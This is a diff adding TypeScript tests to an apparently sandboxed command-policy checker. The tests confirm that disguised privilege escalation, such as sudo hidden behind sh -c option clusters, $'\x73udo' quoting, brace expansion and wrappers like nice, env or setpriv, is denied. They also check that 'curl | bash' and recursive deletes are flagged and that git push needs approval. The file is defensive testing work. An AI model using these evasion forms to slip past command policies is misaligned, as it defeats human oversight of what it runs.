@@ -72,6 +72,73 @@ describe('shell parsing for policy', () => {
   });
 });
 
+describe('command lines read with certainty, or every way they could run', () => {
+  const judged = (request: { argv?: string[]; shell?: string }) => evaluatePolicy(DEFAULT_POLICY, request, { ...ctx, sandboxed: true }).decision;
+
+  it('sh -c in every form: -- after -c, option clusters, options before and after -c, static quoting and brace expansion in the script', () => {
+    const forms = [
+      ['sh', '-c', '--', 'sudo id'], ['bash', '-c', '--', 'sudo id'], ['bash', '-Ec', 'sudo id'], ['sh', '-Cc', 'sudo id'], ['bash', '-xEc', 'sudo id'],
+      ['bash', '-e', '-c', 'sudo id'], ['bash', '-o', 'pipefail', '-c', 'sudo id'], ['bash', '--norc', '-c', 'sudo id'], ['bash', '-c', '-e', 'sudo id'],
+      ['bash', '-O', 'extglob', '-c', 'sudo id'], ['bash', '+o', 'posix', '-c', 'sudo id'], ['bash', '--rcfile', '/x', '-c', 'sudo id'], ['bash', '-eo', 'pipefail', '-c', 'sudo id'],
+      ['bash', '-c', "$'sudo' id"], ['bash', '-c', "$'\\x73udo' id"], ['bash', '-c', "$'\\163udo' id"], ['bash', '-c', '{sudo,id}'], ['bash', '-c', '{s..s}udo id'],
+      ['bash', '-c', 'x{,}; {sudo,} id'], ['bash', '-c', '$"sudo" id'],
+      // An option the reader does not know: every later word may be the script.
+      ['zsh', '--new-option', 'x', '-c', 'sudo id'], ['bash', '--new-option', '-c', 'true', 'sudo id'],
+    ];
+    for (const argv of forms) expect(judged({ argv }), argv.join(' ')).toMatchObject({ action: 'deny', rule: 'privilege' });
+    expect(judged({ argv: ['bash', '-Ec', 'rm -r /d'] })).toMatchObject({ action: 'allow_with_checkpoint', rule: 'rm-recursive' });
+    expect(judged({ argv: ['sh', '-c', '--', 'mount | head -1'] })).toMatchObject({ action: 'deny', rule: 'host-system' });
+    // Quoted braces and parameter expansions are not brace expansion; a shell reading its input is still one.
+    expect(commandsOf({ shell: "echo '{a,b}' ${x:-{}} \\{c,d}" }).map((c) => c.argv)).toEqual([['echo', '{a,b}', '${x:-{}}', '{c,d}']]);
+    expect(commandsOf({ shell: 'echo a{b,c{1..3}}d' }).map((c) => c.argv)).toEqual([['echo', 'abd', 'ac1d', 'ac2d', 'ac3d']]);
+    expect(judged({ shell: 'curl -s https://x | bash -o pipefail' })).toMatchObject({ action: 'allow_with_checkpoint', rule: 'shell-from-input' });
+    expect(judged({ shell: 'curl -s https://x | bash -s -- arg' })).toMatchObject({ action: 'allow_with_checkpoint', rule: 'shell-from-input' });
+    expect(judged({ argv: ['bash', 'build.sh'] }).rule).toBe('default');
+    expect(judged({ argv: ['bash', '--version'] }).action).toBe('allow');
+  });
+
+  it('--shell: substitutions inside arithmetic, time with options', () => {
+    expect(judged({ shell: 'echo $(( $(mount) ))' })).toMatchObject({ action: 'deny', rule: 'host-system' });
+    expect(judged({ shell: 'echo $(( 1 + `mount` ))' })).toMatchObject({ action: 'deny', rule: 'host-system' });
+    expect(judged({ shell: 'time -p mount' })).toMatchObject({ action: 'deny', rule: 'host-system' });
+    expect(judged({ shell: 'time -f %e mount' })).toMatchObject({ action: 'deny', rule: 'host-system' });
+    expect(judged({ shell: 'time ls' })).toMatchObject({ action: 'allow', categories: ['read_only'] });
+    expect(judged({ shell: 'echo $((1 + 2))' })).toMatchObject({ action: 'allow', categories: ['read_only'] });
+  });
+
+  it('wrapper options that take a value, long or clustered; an option a wrapper does not know makes every later word a possible command', () => {
+    const forms = [
+      ['nice', '--adjustment', '5', 'sudo', 'id'], ['nice', '--adj', '5', 'sudo', 'id'], ['nice', '-n5', 'sudo', 'id'], ['nice', '-5', 'sudo', 'id'],
+      ['ionice', '--class', '2', 'sudo', 'id'], ['ionice', '-tc', '2', 'sudo', 'id'], ['stdbuf', '--output', 'L', 'sudo', 'id'], ['stdbuf', '-oL', '-e', '0', 'sudo', 'id'],
+      ['env', '--chdir', '/x', 'sudo', 'id'], ['env', '-iC', '/x', 'sudo', 'id'], ['env', '-P', '/bin', 'sudo', 'id'], ['env', '--unset', 'X', 'sudo', 'id'], ['env', '--new-option', 'v', 'sudo', 'id'],
+      ['xargs', '--process-slot-var', 'V', 'sudo', 'id'], ['xargs', '-0I', '{}', 'sudo', 'id'], ['xargs', '-i', 'sudo', 'id'], ['xargs', '--max-procs', '2', 'sudo', 'id'],
+      ['flock', '-c', 'sudo id', '/x'], ['flock', '--command', 'sudo id', '/x'], ['flock', '/x', '--command', 'sudo id'], ['flock', '--timeout', '5', '/x', 'sudo', 'id'], ['flock', '-nw', '5', '/x', 'sudo', 'id'],
+      ['timeout', '--signal', 'KILL', '5', 'sudo', 'id'], ['timeout', '-sKILL', '-k', '1', '5', 'sudo', 'id'], ['timeout', '--kill', '1', '5s', 'sudo', 'id'], ['timeout', '--new', '5', 'sudo', 'id'],
+      ['nohup', 'sudo', 'id'], ['nohup', '--', 'sudo', 'id'], ['time', '-f', '%e', 'sudo', 'id'], ['time', '--output', 'o', 'sudo', 'id'], ['command', '-p', 'sudo', 'id'],
+      ['exec', '-a', 'x', 'sudo', 'id'], ['exec', '-cla', 'x', 'sudo', 'id'], ['chrt', '--sched-runtime', '5', '-d', '0', 'sudo', 'id'], ['chrt', '-o', 'sudo', 'id'], ['chrt', '-f', '5', 'sudo', 'id'],
+      ['taskset', '--cpu-list', '0-1', 'sudo', 'id'], ['taskset', '-c', '0', 'sudo', 'id'], ['taskset', '0x3', 'sudo', 'id'], ['setsid', '--fork', 'sudo', 'id'], ['setsid', '-fw', 'sudo', 'id'],
+      ['setpriv', '--reuid', '0', 'sudo', 'id'], ['setpriv', '--landlock-access', 'fs', 'sudo', 'id'], ['setpriv', '--new-thing', 'x', 'sudo', 'id'], ['unbuffer', '-p', 'sudo', 'id'],
+      ['nice', '--new-option', '5', 'sudo', 'id'], ['stdbuf', '-Z', 'x', 'sudo', 'id'], ['nice', 'nice', '--x', 'nice', '--y', 'sudo', 'id'],
+    ];
+    for (const argv of forms) expect(judged({ argv }), argv.join(' ')).toMatchObject({ action: 'deny', rule: 'privilege' });
+    // Certain readings stay exact: the value of an option is not a command.
+    expect(judged({ argv: ['nice', '-n', '5', 'ls'] })).toMatchObject({ action: 'allow', categories: ['read_only'] });
+    expect(judged({ argv: ['xargs', '-I', 'mount', 'echo', 'mount'] })).toMatchObject({ action: 'allow', categories: ['read_only'] });
+    expect(judged({ argv: ['timeout', '-s', 'KILL', '5', 'ls'] })).toMatchObject({ action: 'allow', categories: ['read_only'] });
+  });
+
+  it('git global options with a separate value are not the subcommand', () => {
+    for (const argv of [
+      ['git', '--git-dir', '/r/.git', 'push'], ['git', '--work-tree', '/r', 'push'], ['git', '--namespace', 'x', 'push'], ['git', '--config-env', 'x=y', 'push'],
+      ['git', '-C', 'r', 'push'], ['git', '-c', 'k=v', 'push'], ['git', '--exec-path=/x', 'push'], ['git', '--super-prefix', 'x/', 'push'], ['git', '--attr-source', 'HEAD', 'push'],
+      ['git', '--git-dir=/r/.git', '--no-pager', '-p', 'push'],
+    ]) {
+      expect(judged({ argv }), argv.join(' ')).toMatchObject({ action: 'require_approval', rule: 'git-push' });
+    }
+    expect(judged({ argv: ['git', '--git-dir', '/r/.git', 'reset', '--hard'] })).toMatchObject({ action: 'allow_with_checkpoint', rule: 'git-discard' });
+  });
+});
+
 describe('default policy', () => {
   it('allows ordinary commands and labels read-only ones', () => {
     expect(decide(['ls', '-la'])).toMatchObject({ action: 'allow', categories: ['read_only'], rule: 'read-only' });
